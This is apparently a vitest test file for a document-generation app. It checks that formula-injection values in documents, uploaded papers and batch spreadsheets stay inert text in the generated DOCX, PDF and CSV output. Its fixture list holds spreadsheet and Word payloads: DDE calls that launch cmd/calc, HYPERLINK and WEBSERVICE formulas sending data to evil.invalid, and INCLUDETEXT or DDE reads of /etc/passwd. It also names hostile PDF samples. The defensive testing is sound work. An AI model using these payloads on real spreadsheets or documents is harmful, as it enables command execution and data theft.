import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import { expect, test, vi } from 'vitest';
import { officeConverter } from '#engine/letters/office.ts';
import { readPdf } from '#engine/reading/pdf/pdf.ts';
import type { DocumentVersion } from '#features/documents/versions/contract.ts';
import { type Adviser, openHouse } from '#tests/support/app.ts';
import { aBatch, anActiveTemplate, archiveOf, checkBatch, runBatch } from '#tests/support/batches.ts';
import { aDocument, addPaper, decide, documentsPath, fieldNamed, fieldsOf, whenRead } from '#tests/support/documents.ts';
import { activeIn } from '#tests/support/hostile/active-parts.ts';
import { activeInPdf } from '#tests/support/hostile/active-pdf.ts';
import { hostilePdfFiles } from '#tests/support/hostile/pdf-files.ts';
import { get, post } from '#tests/support/moves.ts';
import { field, partsOf, table, textIn, wordFile } from '#tests/support/word.ts';
import { shownByWriter } from '#tests/support/writer.ts';

vi.setConfig({ testTimeout: 90_000 });

/* What a spreadsheet or Word would work out, as values of documents and batches: it is text wherever it comes out. */

const house = openHouse({ work: true });

const formulas = [
  "=cmd|'/C calc'!A0",
  '=1+41',
  '=HYPERLINK("http://evil.invalid?"&A1,"click")',
  '=WEBSERVICE("http://evil.invalid")',
  '=DDE("soffice";"/etc/passwd";"1")',
  '=INDIRECT("\'file:///etc/passwd\'#$x.A1")',
  '=SUM(1;2)*(1+1)',
  '+1+41',
  '-2+44',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+41',
  '\r=1+41',
  ' =1+41',
  '\u00a0=1+41',
  '＝1+41',
  '＋1+41',
  '－1+41',
  '＠SUM(1)',
  '";=1+41;"',
  "'=1+41",
  '%0A=1+41',
  '{=1+41}',
  '{ =1+41 }',
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  '{ DDE excel book }',
  'INCLUDETEXT "/etc/passwd"',
  'HYPERLINK "\\\\evil.invalid\\share"',
  '{{client_full_name}}',
  '</w:t><w:instrText>DDE</w:instrText>',
  '\u{1d7f9}=1+41',
];
const words = (text: string): string => text.replaceAll(/\s+/g, ' ').trim();

/** Where LibreOffice is installed with its spreadsheet. */
const calc = ['/usr/lib/libreoffice/program', '/opt/libreoffice/program'].find((folder) => existsSync(join(folder, 'libsclo.so')));

/** The cells of a CSV file as LibreOffice shows them once it has opened it; as they stand in it where that isn't installed. */
function shownByCalc(csv: Buffer): string[][] {
  const rows = (bytes: Buffer): string[][] =>
    Papa.parse<string[]>(bytes.toString('utf8').replace('\ufeff', ''), { skipEmptyLines: true }).data;
  if (!calc) return rows(csv);
  const folder = mkdtempSync(join(tmpdir(), 'suitably-formulas-'));
  try {
    writeFileSync(join(folder, 'in.csv'), csv);
    // Formulas of a text are worked out, as somebody may have set it: 44 is the comma, 34 the quote, 76 UTF-8.
    const filter = '--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true';
    const options = [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      filter,
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1',
    ];
    execFileSync(join(calc, 'soffice'), [...options, '--outdir', join(folder, 'out'), join(folder, 'in.csv')], {
      stdio: 'ignore',
      timeout: 60_000,
    });
    return rows(readFileSync(join(folder, 'out/in.csv')));
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

test('as values of a document they are its words: no field comes alive, and LibreOffice shows them as they were said', async () => {
  const person = await house.anAdviser();
  const fields = formulas.map((_, index) => `value_${index}`);
  const { id } = await aDocument(
    person,
    fields.map((field) => `[{{${field}}}]`),
  );
  await decide(person, id, ...fields.map((field, index) => ({ field, decision: 'attested', value: formulas[index] })));
  const { rawPayload: docx } = await person.inject(`${documentsPath}/${id}/content`);
  expect(activeIn(docx)).toEqual([]);
  const body = partsOf(docx).get('word/document.xml') ?? '';
  expect(body).not.toMatch(/<w:(?:instrText|fldChar|fldSimple|hyperlink)\b/);
  const [shown = ''] = shownByWriter([docx]) ?? [textIn(docx)];
  for (const formula of formulas) expect(words(shown)).toContain(`[${words(formula)}`);
});

/** What papers say, by the tag that asks for it. */
const said = {
  occupation: '=HYPERLINK("http://evil.invalid?"&A1,"click")',
  employer: "@SUM(1+1)*cmd|'/C calc'!A0",
  hobby: '=1+41',
  holiday_plans: '+1+41',
  garden_project: 'DDEAUTO c:\\windows\\cmd.exe',
  investment_objective: '=DDE("soffice";"/etc/passwd";"1")',
  attitude_to_risk: 'INCLUDETEXT "/etc/passwd"',
};

/** A letter that prints all of it, and its papers, read: as text, as cells, and beside a field of Word's that would start a program. */
async function aLetterOfFormulas(who: Adviser): Promise<string> {
  const { id } = await aDocument(
    who,
    Object.keys(said).map((tag) => `[{{${tag}}}]`),
  );
  const { occupation, employer, hobby, holiday_plans, garden_project, investment_objective, attitude_to_risk } = said;
  await addPaper(who, id, `Fact-find\nOccupation: ${occupation}\nEmployer: ${employer}\n`, 'fact-find.txt');
  await addPaper(
    who,
    id,
    Papa.unparse([
      ['Hobby', hobby],
      ['Holiday plans', holiday_plans],
    ]),
    'plans.csv',
  );
  const rows = [
    ['Garden project', garden_project],
    ['Investment objective', investment_objective],
  ];
  await addPaper(who, id, Buffer.from(await writeXlsx({ sheets: [{ name: 'S', rows }] })), 'profile.xlsx');
  const body = table(['Attitude to risk', attitude_to_risk]) + field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ');
  await addPaper(who, id, wordFile({ body }), 'risk.docx');
  await whenRead(who, id);
  return id;
}

test('as words of papers they are values like others: nothing of them comes alive in the letter, its PDF or its certificate', async () => {
  const person = await house.anAdviser();
  const id = await aLetterOfFormulas(person);
  const state = await fieldsOf(person, id);
  const found = Object.keys(said).map((tag) => [tag, fieldNamed(state, tag).found]);
  expect(found).toEqual(Object.entries(said).map(([tag, value]) => [tag, expect.objectContaining({ status: 'cited', value })]));
  await decide(person, id, ...Object.keys(said).map((field) => ({ field, decision: 'accepted' })));

  await post(person, `${documentsPath}/${id}/submit`);
  await post(person, `${documentsPath}/${id}/approve`);
  await post(person, `${documentsPath}/${id}/finalise`);
  const version = async () => (await get<{ versions: DocumentVersion[] }>(person, `${documentsPath}/${id}/versions`)).versions[0]!;
  await expect.poll(async () => (await version()).pdf, { timeout: 60_000 }).not.toBe('making');
  const fileOf = async (format: string) => (await person.inject(`${documentsPath}/${id}/versions/1/content?format=${format}`)).rawPayload;

  const docx = await fileOf('docx');
  expect(activeIn(docx)).toEqual([]);
  expect(partsOf(docx).get('word/document.xml')).not.toMatch(/<w:(?:instrText|fldChar|fldSimple|hyperlink)\b/);
  for (const value of Object.values(said)) expect(words(textIn(docx))).toContain(`[${value}]`);
  // It carries the manifest, and nothing else.
  expect(await activeInPdf(await fileOf('certificate'))).toEqual(['/EmbeddedFile', '/EmbeddedFiles']);
  if (!officeConverter().available) return;
  const pdf = await fileOf('pdf');
  expect(await activeInPdf(pdf)).toEqual([]);
  const printed = (await readPdf(pdf)).pages.flatMap(({ words }) => words.map(({ text }) => text)).join('');
  for (const value of Object.values(said)) expect(printed).toContain(`[${value.replaceAll(' ', '')}]`);
});

test('as cells of a batch they are words of its documents, and neither its summary nor a name in it is worked out by LibreOffice', async () => {
  const person = await house.anAdviser();
  const template = await anActiveTemplate(person, 'Dear {{client_full_name}}, [{{notes}}]');
  const head = '=1+41';
  const rows = formulas.map((formula, index) => [index % 5 === 4 ? '' : formula, formula, formula]);
  const batch = await aBatch(
    person,
    template.id,
    Buffer.from(await writeXlsx({ sheets: [{ name: 'S', rows: [['Client full name', 'Notes', head], ...rows] }] })),
    '=1+41.xlsx',
  );
  await checkBatch(person, batch, { name_column: 0 });
  await runBatch(person, batch.id);
  const { files } = await archiveOf(person, batch.id);
  const summary = files.get('Summary.csv') ?? Buffer.of();
  const cells = shownByCalc(summary).flat();
  expect(cells.length).toBeGreaterThan(4 * formulas.length);
  expect(cells.filter((cell) => cell === '42' || /^#|Err:/.test(cell))).toEqual([]);
  const documents = [...files].filter(([name]) => name.endsWith('.docx'));
  expect(documents.length).toBeGreaterThan(15);
  for (const [name, docx] of documents) expect([name, activeIn(docx)]).toEqual([name, []]);
  const sample = await person.inject(`/api/document-batches/sample?document_template_id=${template.id}`);
  expect(shownByCalc(sample.rawPayload).flat()).not.toContain('42');
});

test.runIf(calc)('the watch sees a formula that is worked out, where a file lets it', () => {
  expect(shownByCalc(Buffer.from('a,b\n=1+41,x\n')).flat()).toContain('42');
});

test.each([
  'a script at opening',
  'a program at opening',
  'a script of names',
  'a page that acts when it is seen',
  'a form that sends itself',
  'a way to another file',
  'an attached program',
])('the watch sees what acts in a PDF, where a file lets it: %s', async (name) => {
  expect(await activeInPdf(hostilePdfFiles[name]!())).not.toEqual([]);
});
